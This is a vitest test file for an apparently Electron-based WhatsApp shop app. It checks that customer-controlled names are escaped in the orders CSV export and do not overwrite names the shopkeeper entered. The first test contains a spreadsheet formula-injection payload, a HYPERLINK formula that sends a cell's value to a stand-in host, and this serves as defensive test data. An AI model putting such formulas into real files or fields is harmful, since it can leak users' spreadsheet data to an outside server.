// What a customer controls (their WhatsApp name) never runs in a spreadsheet or overwrites what the shop typed.
import { afterEach, expect, it } from 'vitest'
import { openShop, type TestShop } from '../fixtures/conv-harness'
import { createDispatcher } from '../../electron/engine/api'

let shop: TestShop
afterEach(async () => {
  await shop?.close()
})

it('escapes cells a customer controls in the orders CSV', async () => {
  shop = await openShop()
  shop.engine.simulator.simulateInbound('+919800000007', '2 kg onion', '=HYPERLINK("http://x/?"&A1,"Click")')
  await shop.settle()
  expect(await shop.say('+919800000007', 'yes')).toContain('#1001')
  const r = await createDispatcher(shop.engine)('orders.exportCsv', {})
  if (!r.ok) throw new Error(r.error.message)
  const text = (r.value as { csv: string }).csv
  expect(text).toContain(`"'=HYPERLINK(""http://x/?""&A1,""Click"")"`)
  expect(text).not.toMatch(/(^|,)"?=HYPERLINK/m)
  expect(text).toContain(',+919800000007,')
})

it('keeps the name the shopkeeper gave a customer when their WhatsApp name arrives again', async () => {
  shop = await openShop()
  shop.engine.simulator.simulateInbound('+919800000008', 'hi', 'Pinky 💅')
  await shop.settle()
  const dispatch = createDispatcher(shop.engine)
  const set = await dispatch('chats.setCustomer', {
    phone: '+919800000008',
    name: 'Mrs Priya Sharma (flat 203)',
  })
  expect(set.ok).toBe(true)
  shop.engine.simulator.simulateInbound('+919800000008', '2 kg onion', 'Pinky 💅')
  await shop.settle()
  const chat = await dispatch('chats.get', { phone: '+919800000008' })
  expect(chat).toMatchObject({ ok: true, value: { name: 'Mrs Priya Sharma (flat 203)' } })
})
